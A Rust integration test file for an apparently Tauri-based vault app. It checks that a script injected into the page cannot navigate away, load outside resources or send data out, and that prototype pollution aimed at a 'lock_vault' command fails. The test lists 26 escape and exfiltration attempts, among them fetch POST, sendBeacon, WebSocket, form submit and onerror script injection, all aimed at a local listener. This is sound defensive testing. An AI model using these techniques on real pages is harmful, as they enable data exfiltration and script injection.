//! What somebody reaches who got a script of theirs into the page.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use serde_json::{Value, json};

use crate::{desk::Desk, window::Window, words::t};

/// Every way that a page has of going or calling somewhere; each leaves what came of it, at the
/// latest after two seconds. The first argument is an address, the last is called at the end.
const ESCAPES: &str = r#"
const [outside, done] = [arguments[0], arguments[arguments.length - 1]];
const told = {};
const put = (name, attributes) => {
  const element = document.createElement(name);
  Object.assign(element, attributes);
  document.body.append(element);
  return element;
};
const attempts = {
  location: () => { location.href = outside; },
  assign: () => location.assign(outside),
  open: () => { if (window.open(outside) !== null) throw new Error("opened"); },
  link: () => put("a", { href: outside }).click(),
  target: () => put("a", { href: outside, target: "_blank" }).click(),
  scheme: () => put("a", { href: "javascript:window.reached = true" }).click(),
  data: () => { location.href = "data:text/html,<h1>elsewhere</h1>"; },
  form: () => put("form", { action: outside, method: "post" }).submit(),
  frame: () => put("iframe", { src: outside }),
  inside: () => put("iframe", { srcdoc: "<script>parent.reached = true</script>" }),
  picture: () => put("img", { src: outside }),
  film: () => put("video", { src: outside }).load(),
  object: () => put("object", { data: outside }),
  style: () => put("link", { rel: "stylesheet", href: outside }),
  ahead: () => put("link", { rel: "preload", as: "image", href: outside }),
  script: () => put("script", { src: outside }),
  inline: () => put("script", { textContent: "window.reached = true" }),
  handler: () => { put("div", {}).innerHTML = "<img src='' onerror='window.reached = true'>"; },
  reckoned: () => new Function("window.reached = true")(),
  beacon: () => navigator.sendBeacon(outside, "told"),
  socket: () => new WebSocket(outside.replace("http", "ws")),
  events: () => new EventSource(outside),
  worker: () => new Worker(outside),
  request: () => { const it = new XMLHttpRequest(); it.open("POST", outside); it.send("told"); },
  fetched: () => fetch(outside, { method: "POST", mode: "no-cors", body: "told" }),
  imported: () => import(outside),
};
const waits = Object.entries(attempts).map(async ([name, attempt]) => {
  try {
    await attempt();
    told[name] = "no word";
  } catch (error) {
    told[name] = String(error);
  }
});
const enough = new Promise((resolve) => setTimeout(resolve, 2000));
Promise.race([Promise.all(waits), enough]).then(() => enough).then(() => done(told));
"#;

/// What a script would leave that was run, and where the page is.
const STANDING: &str = "return [window.reached ?? null, location.protocol, location.host]";

/// How often somebody said anything at an address, and the address. A web view opens connections
/// ahead of the decision whether a link is followed; over those nothing may be said.
fn listening() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let address = format!("http://{}/", listener.local_addr().expect("it listens"));
    let calls = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&calls);
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let count = Arc::clone(&count);
            thread::spawn(move || {
                said_something(stream).then(|| count.fetch_add(1, Ordering::SeqCst))
            });
        }
    });
    (address, calls)
}

fn said_something(mut stream: TcpStream) -> bool {
    matches!(stream.read(&mut [0]), Ok(1))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_page_goes_nowhere_and_calls_nobody() {
    let desk = Desk::with_vault().await;
    let window = desk.unlocked().await;
    let (address, calls) = listening();
    let told = window.client().execute_async(ESCAPES, vec![json!(address)]).await;
    let told = told.expect("the page is still there");
    assert_eq!(told.as_object().map(serde_json::Map::len), Some(26), "{told}");
    assert_eq!(calls.load(Ordering::SeqCst), 0, "{told}");
    let stands = window.client().execute(STANDING, Vec::new()).await.expect("the window answers");
    assert_eq!(stands[0], Value::Null, "a script was run: {told}");
    assert_eq!(stands[1], "tauri:");
    assert_eq!(stands[2], "localhost");
    // The control of the count.
    let port = address.trim_start_matches("http://").trim_end_matches('/');
    let mut caller = TcpStream::connect(port).expect("somebody listens");
    caller.write_all(b"GET / HTTP/1.1").expect("it can be said");
    let counted =
        window.wait("the call", async || (calls.load(Ordering::SeqCst) == 1).then_some(()));
    counted.await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_every_object_inherits_cannot_be_changed_under_a_command() {
    let desk = Desk::with_vault().await;
    let window = desk.unlocked().await;
    let script = "
        const was = JSON.stringify;
        for (const change of [
          () => { Object.prototype.cmd = 'lock_vault'; },
          () => { Object.prototype.toString = () => 'lock_vault'; },
          () => { Object.defineProperty(Object.prototype, 'cmd', { value: 'lock_vault' }); },
          () => { ({}).__proto__.cmd = 'lock_vault'; },
        ]) { try { change(); } catch { /* frozen */ } }
        return [Object.isFrozen(Object.prototype), ({}).cmd ?? null, String({}), was === JSON.stringify]";
    let stands = window.client().execute(script, Vec::new()).await.expect("the window answers");
    assert_eq!(stands, json!([true, null, "[object Object]", true]));
    still_works(&window).await;
}

/// A command of the page still does what it says.
async fn still_works(window: &Window) {
    window.keys("go").await;
    window.find("heading", &t("ui-outbox-title")).await;
}
